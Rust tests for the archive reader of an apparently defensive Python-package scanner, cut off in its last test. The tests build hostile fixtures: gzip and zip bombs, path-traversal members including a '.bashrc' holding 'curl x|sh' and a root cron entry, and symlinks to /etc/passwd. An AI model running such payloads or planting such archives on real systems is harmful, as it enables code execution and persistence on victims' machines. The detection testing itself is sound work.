//! Reader tests. Every fixture, hostile ones included, is built here in memory.

use super::*;
use super::format::Container;
use crate::finding::Finding;
use crate::alerts::AlertId;
use std::io::{Cursor, Write};
use std::sync::OnceLock;

// ───────────── fixture builders ─────────────

/// A GNU tar header with the name written raw (no path validation: hostile names allowed).
fn header(name: &str, size: u64, kind: tar::EntryType, link: &str) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    {
        let gnu = h.as_gnu_mut().expect("gnu header");
        let n = name.len().min(99);
        gnu.name[..n].copy_from_slice(&name.as_bytes()[..n]);
        let l = link.len().min(99);
        gnu.linkname[..l].copy_from_slice(&link.as_bytes()[..l]);
    }
    h.set_size(size);
    h.set_mode(0o644);
    h.set_entry_type(kind);
    h.set_cksum();
    h
}

enum Entry<'a> {
    File(&'a str, &'a [u8]),
    Link(&'a str, &'a str, tar::EntryType),
    Special(&'a str, tar::EntryType),
    /// A raw header (e.g. PAX) followed by its data.
    Raw(Box<tar::Header>, Vec<u8>),
}

fn tar_of(entries: &[Entry]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        match e {
            Entry::File(name, data) => {
                b.append(&header(name, data.len() as u64, tar::EntryType::Regular, ""), *data).expect("append")
            }
            Entry::Link(name, target, kind) => b.append(&header(name, 0, *kind, target), &[][..]).expect("append"),
            Entry::Special(name, kind) => b.append(&header(name, 0, *kind, ""), &[][..]).expect("append"),
            Entry::Raw(h, data) => b.append(h, &data[..]).expect("append"),
        }
    }
    b.into_inner().expect("tar")
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gz");
    e.finish().expect("gz")
}

fn bz2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    e.write_all(data).expect("bz2");
    e.finish().expect("bz2")
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut e = xz2::write::XzEncoder::new(Vec::new(), 1);
    e.write_all(data).expect("xz");
    e.finish().expect("xz")
}

fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (name, data) in files {
        w.start_file(*name, opts).expect("start");
        w.write_all(data).expect("write");
    }
    w.finish().expect("zip").into_inner()
}

fn sdist() -> Vec<u8> {
    gz(&tar_of(&[
        Entry::File("./demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='demo')\n"),
        Entry::File("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
        Entry::File("demo-1.0/demo/__init__.py", b"VERSION = '1.0'\n"),
        Entry::File("demo-1.0/demo/data.bin", &[0u8, 1, 2, 3, 255, 254, 0, 0]),
    ]))
}

fn wheel() -> Vec<u8> {
    zip_of(&[
        ("demo/__init__.py", b"x = 1\n"),
        ("demo-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
        ("demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nTag: py3-none-any\n"),
    ])
}

fn read(name: &str, bytes: &[u8]) -> Result<Artifact, ArtifactError> {
    read_bytes(name, bytes, &Limits::default())
}

fn alerts(a: &Artifact) -> Vec<AlertId> {
    a.findings.iter().map(|f| f.alert).collect()
}

fn has(a: &Artifact, id: AlertId) -> bool {
    a.findings.iter().any(|f| f.alert == id)
}

/// Replaces every occurrence of `from` with `to` (same length) in raw bytes.
fn patch(bytes: &mut [u8], from: &[u8], to: &[u8]) {
    assert_eq!(from.len(), to.len());
    let mut i = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
        }
        i += 1;
    }
}

// ───────────── well-formed archives ─────────────

#[test]
fn reads_a_gzip_sdist_with_hashes_and_kept_code() {
    let bytes = sdist();
    let a = read("demo-1.0.tar.gz", &bytes).expect("reads");
    assert_eq!(a.kind, ArtifactKind::Sdist);
    assert_eq!(a.container, Container::TarGz);
    assert!(a.findings.is_empty(), "{:?}", a.findings);
    let paths: Vec<&str> = a.members.iter().map(|m| m.path.as_str()).collect();
    assert_eq!(paths, ["demo-1.0/setup.py", "demo-1.0/PKG-INFO", "demo-1.0/demo/__init__.py", "demo-1.0/demo/data.bin"]);
    let setup = a.member("demo-1.0/setup.py").expect("setup.py");
    assert!(setup.text().expect("kept").contains("setup(name='demo')"));
    assert_eq!(setup.sha256_hex(), Some(reader::hex(&<sha2::Sha256 as sha2::Digest>::digest(setup.data.as_deref().unwrap_or_default()))));
    assert!(a.member("demo-1.0/demo/data.bin").expect("bin").data.is_none());
    assert_eq!(a.sha256.as_deref(), Some(reader::hex(&<sha2::Sha256 as sha2::Digest>::digest(&bytes)).as_str()));
}

#[test]
fn reads_bzip2_xz_and_plain_tar() {
    let t = tar_of(&[Entry::File("p-1/setup.py", b"print(1)\n")]);
    for (name, bytes, container) in [
        ("p-1.tar.bz2", bz2(&t), Container::TarBz2),
        ("p-1.tar.xz", xz(&t), Container::TarXz),
        ("p-1.tar", t.clone(), Container::Tar),
    ] {
        let a = read(name, &bytes).expect("reads");
        assert_eq!(a.container, container);
        assert_eq!(a.members.len(), 1);
        assert!(a.findings.is_empty(), "{name}: {:?}", a.findings);
    }
}

#[test]
fn reads_a_wheel() {
    let a = read("demo-1.0-py3-none-any.whl", &wheel()).expect("reads");
    assert_eq!(a.kind, ArtifactKind::Wheel);
    assert_eq!(a.container, Container::Zip);
    assert_eq!(a.members.len(), 3);
    assert!(a.findings.is_empty(), "{:?}", a.findings);
}

#[test]
fn long_gnu_and_pax_names_are_honoured() {
    let long = format!("p-1/{}/mod.py", "d".repeat(150));
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(3);
    h.set_mode(0o644);
    b.append_data(&mut h, &long, &b"x=1"[..]).expect("long name");
    let pax_path = format!("p-1/{}/pax.py", "e".repeat(120));
    let record = pax_record("path", &pax_path);
    let mut ph = tar::Header::new_ustar();
    ph.set_entry_type(tar::EntryType::XHeader);
    ph.set_size(record.len() as u64);
    ph.set_path("PaxHeaders/x").expect("path");
    ph.set_cksum();
    b.append(&ph, &record[..]).expect("pax");
    b.append(&header("short-name.py", 3, tar::EntryType::Regular, ""), &b"y=2"[..]).expect("file");
    let a = read("p-1.tar.gz", &gz(&b.into_inner().expect("tar"))).expect("reads");
    let paths: Vec<&str> = a.members.iter().map(|m| m.path.as_str()).collect();
    assert_eq!(paths, [long.as_str(), pax_path.as_str()]);
}

fn pax_record(key: &str, value: &str) -> Vec<u8> {
    let body = format!(" {key}={value}\n");
    let mut len = body.len() + 1;
    while format!("{len}{body}").len() != len {
        len += 1;
    }
    format!("{len}{body}").into_bytes()
}

#[test]
fn pax_records_round_trip() {
    let rec = pax_record("path", "a/b.py");
    assert_eq!(rec, b"15 path=a/b.py\n");
}

// ───────────── lying extensions ─────────────

#[test]
fn zip_named_tar_gz_is_a_wheel_with_a_low_mismatch_finding() {
    let a = read("demo-1.0-py3-none-any.tar.gz", &wheel()).expect("reads");
    assert_eq!(a.container, Container::Zip);
    assert_eq!(a.kind, ArtifactKind::Wheel);
    assert_eq!(alerts(&a), [AlertId::ArchiveExtensionMismatch]);
    assert_eq!(a.findings[0].severity(), crate::alerts::Severity::Low);
}

#[test]
fn xz_named_tar_gz_is_read_as_xz() {
    let bytes = xz(&tar_of(&[Entry::File("p-1/setup.py", b"x")]));
    let a = read("p-1.tar.gz", &bytes).expect("reads");
    assert_eq!(a.container, Container::TarXz);
    assert_eq!(a.kind, ArtifactKind::Sdist);
    assert_eq!(alerts(&a), [AlertId::ArchiveExtensionMismatch]);
}

#[test]
fn unknown_extension_is_read_by_content_without_finding() {
    let a = read("download", &sdist()).expect("reads");
    assert_eq!(a.container, Container::TarGz);
    assert!(a.findings.is_empty());
}

// ───────────── bombs and limits ─────────────

/// 2 GiB of zeros in one tar member, gzip-compressed (about 2 MB), built once.
fn gzip_bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        const SIZE: u64 = 2 << 30;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(9));
        e.write_all(header("bomb-1/zeros.py", SIZE, tar::EntryType::Regular, "").as_bytes()).expect("hdr");
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..(SIZE >> 20) {
            e.write_all(&zeros).expect("zeros");
        }
        e.finish().expect("gz")
    })
}

#[test]
fn gzip_bomb_is_stopped_early() {
    let bomb = gzip_bomb();
    assert!(bomb.len() < 4 << 20);
    let start = std::time::Instant::now();
    let a = read("bomb-1.tar.gz", bomb).expect("limit is a finding, not an error");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
    assert!(a.members.is_empty());
    let msg = &a.findings.iter().find(|f| f.alert == AlertId::ArchiveLimitExceeded).expect("finding").message;
    assert!(msg.contains("bomb"), "{msg}");
    // Not a timing assertion on speed, only a guard against inflating everything.
    assert!(start.elapsed() < std::time::Duration::from_secs(60));
}

#[test]
fn gzip_of_bare_zeros_is_not_a_package() {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..256 {
        e.write_all(&zeros).expect("zeros");
    }
    let bytes = e.finish().expect("gz");
    match read("zeros.tar.gz", &bytes) {
        Ok(a) => assert!(has(&a, AlertId::ArchiveUnreadable) || has(&a, AlertId::ArchiveLimitExceeded)),
        Err(ArtifactError::Corrupt(_)) => {}
        Err(e) => panic!("unexpected {e}"),
    }
}

#[test]
fn zip_bomb_is_stopped_early() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_level(Some(9));
    w.start_file("bomb/__init__.py", opts).expect("start");
    w.write_all(b"print('hi')\n").expect("write");
    w.start_file("bomb/zeros.bin", opts).expect("start");
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        w.write_all(&zeros).expect("zeros");
    }
    let bytes = w.finish().expect("zip").into_inner();
    let a = read("bomb-1.0-py3-none-any.whl", &bytes).expect("finding, not error");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
    assert_eq!(a.members.len(), 1, "the member before the bomb was read");
    // judged from its declared sizes, before anything is inflated
    let f = a.findings.iter().find(|f| f.alert == AlertId::ArchiveLimitExceeded).expect("limit");
    assert!(f.message.contains("bomb/zeros.bin declares 1073741824 bytes"), "{}", f.message);
}

/// Of members no detector reads, a zip's large ones are read to their head only (their
/// size is the declared one, their hash unknown), its small ones are hashed for the
/// RECORD check; a tar's are hashed only when they are executables.
#[test]
fn unread_members_are_read_as_far_as_a_check_needs() {
    let big_lib = [&b"\x7fELF\x02\x01\x01"[..], &noise(3, 3 << 20)].concat();
    let small_lib = [&b"\x7fELF\x02\x01\x01"[..], &noise(4, 5000)].concat();
    let big_data = noise(5, 2 << 20);
    let header = b"/* a C++ header shipped for extension builds */\n".repeat(200);
    let files: [(&str, &[u8]); 5] =
        [("p/_big.so", &big_lib), ("p/_small.so", &small_lib), ("p/model.bin", &big_data), ("p/include/x.h", &header), ("p/__init__.py", b"x = 1\n")];
    let digest = |b: &[u8]| -> [u8; 32] { <sha2::Sha256 as sha2::Digest>::digest(b).into() };
    let a = read("p-1.0-cp312-cp312-manylinux_2_17_x86_64.whl", &zip_of(&files)).expect("reads");
    assert!(a.findings.is_empty(), "{:?}", a.findings);
    let big = a.member("p/_big.so").expect("big");
    assert_eq!((big.size, big.sha256, &big.head[..]), (big_lib.len() as u64, None, &big_lib[..64]));
    assert_eq!(a.member("p/_small.so").expect("small").sha256, Some(digest(&small_lib)));
    assert_eq!(a.member("p/model.bin").expect("data").sha256, None);
    // a small member nothing reads is measured from the archive and read to its head
    let h = a.member("p/include/x.h").expect("header");
    assert_eq!((h.size, h.sha256, &h.head[..]), (header.len() as u64, None, &header[..64]));
    assert!(a.member("p/__init__.py").expect("module").data.is_some());
    // code no detector reads is measured as declared: over the limit it is an alert
    let stub = b"def f() -> int: ...\n".repeat(100);
    let limits = Limits { max_member_bytes: 1000, ..Limits::default() };
    let a = read_bytes("p-1.0-py3-none-any.whl", &zip_of(&[("p/__init__.pyi", &stub[..])]), &limits).expect("reads");
    assert!(a.findings.iter().any(|f| f.alert == AlertId::ArchiveLimitExceeded && f.file == "p/__init__.pyi"), "{:?}", a.findings);

    let entries: Vec<Entry> = files.iter().map(|(n, d)| Entry::File(n, d)).collect();
    let a = read("p-1.0.tar.gz", &gz(&tar_of(&entries))).expect("reads");
    assert!(a.findings.is_empty(), "{:?}", a.findings);
    assert_eq!(a.member("p/_big.so").expect("big").sha256, Some(digest(&big_lib)));
    let data = a.member("p/model.bin").expect("data");
    assert_eq!((data.size, data.sha256), (big_data.len() as u64, None));
    assert!(a.member("p/__init__.py").expect("module").data.is_some(), "members after them are read");
}

#[test]
fn total_size_and_member_count_limits() {
    let big = vec![b'a'; 10_000];
    let files: Vec<(String, &[u8])> = (0..20).map(|i| (format!("p/f{i}.txt"), &big[..])).collect();
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, d)| (n.as_str(), *d)).collect();
    let bytes = zip_of(&refs);
    let limits = Limits { max_total_bytes: 50_000, ..Limits::default() };
    let a = read_bytes("p.zip", &bytes, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded));
    assert!(a.members.len() < 20);

    let limits = Limits { max_members: 5, ..Limits::default() };
    let a = read_bytes("p.zip", &bytes, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded));
    assert_eq!(a.members.len(), 5);

    let t = gz(&tar_of(&refs.iter().map(|(n, d)| Entry::File(n, d)).collect::<Vec<_>>()));
    let a = read_bytes("p.tar.gz", &t, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded));
    assert_eq!(a.members.len(), 5);
}

#[test]
fn huge_binary_is_measured_with_bounded_memory_and_code_over_the_limit_is_flagged() {
    let blob: Vec<u8> = (0..(20u32 << 20)).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    w.start_file("p/_native.so", stored).expect("start");
    w.write_all(b"\x7fELF").expect("w");
    w.write_all(&blob).expect("w");
    w.start_file("p/generated.py", stored).expect("start");
    w.write_all(b"X = 1\n").expect("w");
    w.write_all(&vec![b'#'; 17 << 20]).expect("w");
    let bytes = w.finish().expect("zip").into_inner();
    let a = read("p.zip", &bytes).expect("reads");
    let so = a.member("p/_native.so").expect("so");
    assert!(so.data.is_none());
    assert_eq!(so.size, blob.len() as u64 + 4);
    // a 17 MiB generated module (the size of real SDK modules) is kept (deflated, past
    // the first 8 MiB of code) and analysed
    let py = a.member("p/generated.py").expect("py");
    assert!(py.packed.is_some());
    assert_eq!(py.content().map(|c| c.len()), Some(6 + (17 << 20)));
    assert!(!has(&a, AlertId::ArchiveLimitExceeded));
    // over the limit, a code member is flagged; a browser bundle (.js) is not
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for name in ["p/generated.py", "p/static/vendor.js"] {
        w.start_file(name, stored).expect("start");
        w.write_all(&vec![b'#'; 9 << 20]).expect("w");
    }
    let bytes = w.finish().expect("zip").into_inner();
    let limits = Limits { max_member_bytes: 8 << 20, ..Limits::default() };
    let a = read_bytes("p.zip", &bytes, &limits).expect("reads");
    let limit: Vec<&Finding> = a.findings.iter().filter(|f| f.alert == AlertId::ArchiveLimitExceeded).collect();
    assert_eq!(limit.len(), 1);
    assert_eq!(limit[0].file, "p/generated.py");
}

// ───────────── hostile names, links, special files ─────────────

#[test]
fn path_traversal_and_absolute_names_in_tar() {
    let bytes = gz(&tar_of(&[
        Entry::File("p-1/setup.py", b"x"),
        Entry::File("p-1/../../../home/u/.bashrc", b"curl x|sh"),
        Entry::File("/etc/cron.d/evil", b"* * * * * root sh"),
        Entry::File("C:\\Windows\\evil.py", b"x"),
        Entry::File("p-1\\..\\..\\evil.py", b"x"),
    ]));
    let a = read("p-1.tar.gz", &bytes).expect("reads");
    let flagged: Vec<&str> =
        a.findings.iter().filter(|f| f.alert == AlertId::ArchivePathTraversal).map(|f| f.file.as_str()).collect();
    assert_eq!(flagged, ["p-1/../../../home/u/.bashrc", "/etc/cron.d/evil", "C:\\Windows\\evil.py", "p-1\\..\\..\\evil.py"]);
    // The hostile members are still analysed.
    assert_eq!(a.members.len(), 5);
}

#[test]
fn path_traversal_in_zip() {
    let bytes = zip_of(&[("ok/a.py", b"x"), ("../../evil.py", b"x"), ("/abs.py", b"x")]);
    let a = read("p-1.zip", &bytes).expect("reads");
    let n = a.findings.iter().filter(|f| f.alert == AlertId::ArchivePathTraversal).count();
    assert_eq!(n, 2, "{:?}", a.findings);
}

#[test]
fn links_in_tar() {
    let bytes = gz(&tar_of(&[
        Entry::File("p-1/setup.py", b"x"),
        Entry::Link("p-1/passwd", "/etc/passwd", tar::EntryType::Symlink),
        Entry::Link("p-1/up", "../../outside", tar::EntryType::Symlink),
        Entry::Link("p-1/sub/ok", "../setup.py", tar::EntryType::Symlink),
        Entry::Link("p-1/hard", "p-1/setup.py", tar::EntryType::Link),
        Entry::Link("p-1/hard-out", "../x", tar::EntryType::Link),
    ]));
    let a = read("p-1.tar.gz", &bytes).expect("reads");
    let got: Vec<(AlertId, &str)> = a.findings.iter().map(|f| (f.alert, f.file.as_str())).collect();
    assert_eq!(
        got,
        [
            (AlertId::ArchiveLinkEscape, "p-1/passwd"),
            (AlertId::ArchiveLinkEscape, "p-1/up"),
            (AlertId::ArchiveLink, "p-1/sub/ok"),
            (AlertId::ArchiveLink, "p-1/hard"),
            (AlertId::ArchiveLinkEscape, "p-1/hard-out"),
        ]
    );
    assert_eq!(a.members.len(), 1, "links are not members and never followed");
}

#[test]
fn symlink_in_zip() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    w.start_file("p/a.py", opts).expect("start");
    w.write_all(b"x").expect("w");
    w.add_symlink("p/passwd", "/etc/passwd", opts).expect("link");
    w.add_symlink("p/b.py", "a.py", opts).expect("link");
    let bytes = w.finish().expect("zip").into_inner();
    let a = read("p.zip", &bytes).expect("reads");
    assert_eq!(alerts(&a), [AlertId::ArchiveLinkEscape, AlertId::ArchiveLink]);
    assert_eq!(a.members.len(), 1);
}

#[test]
fn devices_and_fifos_are_special_files() {
    let bytes = gz(&tar_of(&[
        Entry::File("p-1/setup.py", b"x"),
        Entry::Special("p-1/fifo", tar::EntryType::Fifo),
        Entry::Special("p-1/tty", tar::EntryType::Char),
        Entry::Special("p-1/sda", tar::EntryType::Block),
    ]));
    let a = read("p-1.tar.gz", &bytes).expect("reads");
    assert_eq!(alerts(&a), [AlertId::ArchiveSpecialFile; 3]);

    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let fifo = zip::write::SimpleFileOptions::default().external_attributes((0o010_644u32) << 16);
    w.start_file("p/a.py", zip::write::SimpleFileOptions::default()).expect("start");
    w.start_file("p/fifo", fifo).expect("start");
    let a = read("p.zip", &w.finish().expect("zip").into_inner()).expect("reads");
    assert_eq!(alerts(&a), [AlertId::ArchiveSpecialFile]);
}

#[test]
fn link_or_directory_carrying_data_stops_reading() {
    // Python's tarfile does not skip data after a symlink header; the tar crate does.
    let mut h = header("p-1/link", 512, tar::EntryType::Symlink, "setup.py");
    h.set_cksum();
    let hidden = tar_of(&[Entry::File("p-1/hidden.py", b"import os")]);
    let bytes = tar_of(&[Entry::File("p-1/setup.py", b"x"), Entry::Raw(Box::new(h), hidden[..512].to_vec())]);
    let a = read("p-1.tar", &bytes).expect("members before are kept");
    assert!(has(&a, AlertId::ArchiveUnreadable), "{:?}", a.findings);
}

#[test]
fn pax_size_disagreement_is_unreadable() {
    let record = pax_record("size", "4096");
    let mut ph = tar::Header::new_ustar();
    ph.set_entry_type(tar::EntryType::XHeader);
    ph.set_size(record.len() as u64);
    ph.set_path("PaxHeaders/x").expect("path");
    ph.set_cksum();
    let bytes = tar_of(&[Entry::Raw(Box::new(ph), record), Entry::File("p-1/setup.py", b"x")]);
    assert!(matches!(read("p-1.tar", &bytes), Err(ArtifactError::Corrupt(m)) if m.contains("PAX size")));
}

#[test]
fn encrypted_zip_member_is_unreadable() {
    let mut bytes = zip_of(&[("p/a.py", b"x"), ("p/secret.py", b"payload")]);
    // Set the "encrypted" flag of the second entry in its local and central headers.
    let local = memchr::memmem::find_iter(&bytes, b"PK\x03\x04").nth(1).expect("local");
    bytes[local + 6] |= 1;
    let central = memchr::memmem::find_iter(&bytes, b"PK\x01\x02").nth(1).expect("central");
    bytes[central + 8] |= 1;
    let a = read("p.zip", &bytes).expect("reads");
    assert_eq!(a.members.len(), 1);
    let f = a.findings.iter().find(|f| f.alert == AlertId::ArchiveUnreadable).expect("finding");
    assert_eq!(f.file, "p/secret.py");
}

#[test]
fn zip_member_whose_content_fails_its_crc_is_unreadable_and_the_rest_is_read() {
    let body = b"import os\n".repeat(500);
    let mut bytes = zip_of(&[("p/a.py", &body), ("p/b.py", b"x = 1\n"), ("p/c.py", &body)]);
    // Change the CRC-32 of the first entry in its local and central headers.
    let local = memchr::memmem::find_iter(&bytes, b"PK\x03\x04").next().expect("local");
    bytes[local + 14] ^= 0xff;
    let central = memchr::memmem::find_iter(&bytes, b"PK\x01\x02").next().expect("central");
    bytes[central + 16] ^= 0xff;
    let a = read("p-1.0-py3-none-any.whl", &bytes).expect("reads");
    let f = a.findings.iter().find(|f| f.alert == AlertId::ArchiveUnreadable).expect("finding");
    assert_eq!(f.file, "p/a.py");
    assert!(f.message.contains("CRC-32"), "{}", f.message);
    assert_eq!(a.member("p/b.py").and_then(|m| m.text()).as_deref(), Some("x = 1\n"));
    assert_eq!(a.member("p/c.py").and_then(|m| m.text()).map(|t| t.len()), Some(body.len()), "members after it are read");
}

#[test]
fn stored_and_deflated_zip_members_read_alike() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let body = b"def f():\n    return 1\n".repeat(300);
    for (name, method) in [("p/stored.py", zip::CompressionMethod::Stored), ("p/deflated.py", zip::CompressionMethod::Deflated)] {
        w.start_file(name, zip::write::SimpleFileOptions::default().compression_method(method)).expect("start");
        w.write_all(&body).expect("write");
    }
    let bytes = w.finish().expect("zip").into_inner();
    let a = read("p-1.0-py3-none-any.whl", &bytes).expect("reads");
    assert!(a.findings.is_empty(), "{:?}", a.findings);
    for name in ["p/stored.py", "p/deflated.py"] {
        let m = a.member(name).expect("member");
        assert_eq!(m.size, body.len() as u64);
        assert_eq!(m.text().as_deref().map(str::as_bytes), Some(&body[..]), "{name}");
    }
}

#[test]
fn duplicate_zip_names_are_reported() {
    let mut bytes = zip_of(&[("p/a.py", b"benign"), ("p/b.py", b"evil!!")]);
    patch(&mut bytes, b"p/b.py", b"p/a.py");
    let a = read("p.zip", &bytes).expect("reads");
    assert!(has(&a, AlertId::ArchiveUnreadable), "{:?}", a.findings);
}

#[test]
fn overlapping_zip_entries_are_a_bomb() {
    let mut bytes = zip_of(&[("p/a.py", b"same content"), ("p/b.py", b"same content")]);
    // Point the second central-directory entry at the first local header.
    let central = memchr::memmem::find_iter(&bytes, b"PK\x01\x02").nth(1).expect("central");
    bytes[central + 42..central + 46].copy_from_slice(&0u32.to_le_bytes());
    let a = read("p.zip", &bytes).expect("a finding, not an error");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
}

#[test]
fn huge_declared_zip_size_stops_before_inflating() {
    let mut bytes = zip_of(&[("p/a.py", b"x"), ("p/b.bin", b"small")]);
    let central = memchr::memmem::find_iter(&bytes, b"PK\x01\x02").nth(1).expect("central");
    bytes[central + 24..central + 28].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    let limits = Limits { max_total_bytes: 1 << 30, ..Limits::default() };
    let a = read_bytes("p.zip", &bytes, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
    assert_eq!(a.members.len(), 1);
}

#[test]
fn oversized_gnu_long_name_is_refused() {
    let mut h = header("././@LongLink", 8 << 20, tar::EntryType::GNULongName, "");
    h.set_cksum();
    let bytes = tar_of(&[Entry::File("p-1/a.py", b"x"), Entry::Raw(Box::new(h), vec![b'a'; 8 << 20])]);
    let a = read("p-1.tar", &bytes).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
}

#[cfg(unix)]
#[test]
fn read_path_refuses_non_regular_files_without_blocking() {
    let dir = tempfile::tempdir().expect("tmp");
    let sock = dir.path().join("pkg.tar.gz");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).expect("socket");
    assert!(matches!(read_path(&sock, &Limits::default()), Err(ArtifactError::Corrupt(_))));
}

// ───────────── damaged and hostile bytes ─────────────

#[test]
fn truncated_gzip_is_a_clear_error() {
    let big: Vec<u8> = (0..200_000u32).map(|i| (i.wrapping_mul(7919) >> 3) as u8).collect();
    let bytes = gz(&tar_of(&[Entry::File("p-1/blob.py", &big)]));
    match read("p-1.tar.gz", &bytes[..bytes.len() / 2]) {
        Err(ArtifactError::Corrupt(msg)) => {
            assert!(msg.contains("gzip stream") && msg.contains("p-1/blob.py"), "{msg}");
        }
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

#[test]
fn truncation_after_some_members_keeps_them() {
    let big: Vec<u8> = (0..200_000u32).map(|i| (i.wrapping_mul(7919) >> 3) as u8).collect();
    let bytes = gz(&tar_of(&[Entry::File("p-1/setup.py", b"import os\n"), Entry::File("p-1/blob.py", &big)]));
    let a = read("p-1.tar.gz", &bytes[..bytes.len() / 2]).expect("partial read");
    assert_eq!(a.members.len(), 1);
    let f = a.findings.iter().find(|f| f.alert == AlertId::ArchiveUnreadable).expect("unreadable");
    assert!(f.message.contains("truncated") || f.message.contains("corrupt"), "{}", f.message);
}

#[test]
fn truncated_plain_tar_member_is_reported() {
    let bytes = tar_of(&[Entry::File("p-1/a.py", b"x"), Entry::File("p-1/b.py", &[b'y'; 5000])]);
    let a = read("p-1.tar", &bytes[..2048]).expect("partial read");
    assert_eq!(a.members.len(), 1);
    assert!(has(&a, AlertId::ArchiveUnreadable));
}

#[test]
fn empty_garbage_and_memberless_inputs() {
    assert!(matches!(read("x.tar.gz", b""), Err(ArtifactError::Corrupt(_))));
    assert!(matches!(read("x.tar.gz", b"this is not an archive at all"), Err(ArtifactError::Corrupt(_))));
    let empty_tar = tar::Builder::new(Vec::new()).into_inner().expect("tar");
    let a = read("x-1.tar.gz", &gz(&empty_tar)).expect("empty tar reads");
    assert!(a.members.is_empty());
    assert_eq!(alerts(&a), [AlertId::ArchiveUnreadable]);
    let a = read("x-1.zip", &zip_of(&[])).expect("empty zip reads");
    assert_eq!(alerts(&a), [AlertId::ArchiveUnreadable]);
    // A zip with its central directory cut off.
    let w = wheel();
    assert!(matches!(read("x.whl", &w[..w.len() - 30]), Err(ArtifactError::Corrupt(_))));
}

/// Deterministic pseudo-random bytes (xorshift), so failures reproduce.
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

#[test]
fn fuzzish_inputs_never_panic_or_hang() {
    let limits = Limits { max_total_bytes: 64 << 20, ..Limits::default() };
    let seeds: Vec<Vec<u8>> = vec![
        sdist(),
        wheel(),
        bz2(&tar_of(&[Entry::File("p/a.py", b"x")])),
        xz(&tar_of(&[Entry::File("p/a.py", b"x")])),
        tar_of(&[Entry::File("p/a.py", b"x"), Entry::Link("p/l", "/etc", tar::EntryType::Symlink)]),
    ];
    let magics: [&[u8]; 6] = [b"\x1f\x8b\x08\x00", b"BZh9", b"\xfd7zXZ\x00", b"PK\x03\x04", b"PK\x05\x06", b""];
    for (i, magic) in magics.iter().enumerate() {
        for len in [0usize, 10, 100, 600, 5000] {
            let mut bytes = magic.to_vec();
            bytes.extend(noise(i as u64 * 1000 + len as u64, len));
            let _ = read_bytes("fuzz.tar.gz", &bytes, &limits);
        }
    }
    for (s, seed) in seeds.iter().enumerate() {
        for cut in (1..seed.len()).step_by((seed.len() / 40).max(1)) {
            let _ = read_bytes("fuzz.tar.gz", &seed[..cut], &limits);
        }
        for pos in (0..seed.len()).step_by((seed.len() / 60).max(1)) {
            for flip in [0xffu8, 0x01, 0x80] {
                let mut bytes = seed.clone();
                bytes[pos] ^= flip;
                let _ = read_bytes("fuzz.whl", &bytes, &limits);
            }
            let mut bytes = seed.clone();
            let n = noise((s * 7919 + pos) as u64, 16);
            let end = (pos + 16).min(bytes.len());
            bytes[pos..end].copy_from_slice(&n[..end - pos]);
            let _ = read_bytes("fuzz.zip", &bytes, &limits);
        }
    }
}

// ───────────── files and directories ─────────────

#[test]
fn read_path_matches_read_bytes_and_is_package_file() {
    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("demo-1.0.tar.gz");
    std::fs::write(&path, sdist()).expect("write");
    let from_file = read_path(&path, &Limits::default()).expect("reads");
    let from_bytes = read("demo-1.0.tar.gz", &sdist()).expect("reads");
    assert_eq!(from_file.filename, "demo-1.0.tar.gz");
    assert_eq!(from_file.sha256, from_bytes.sha256);
    assert_eq!(from_file.members.len(), from_bytes.members.len());
    assert!(is_package_file(&path));
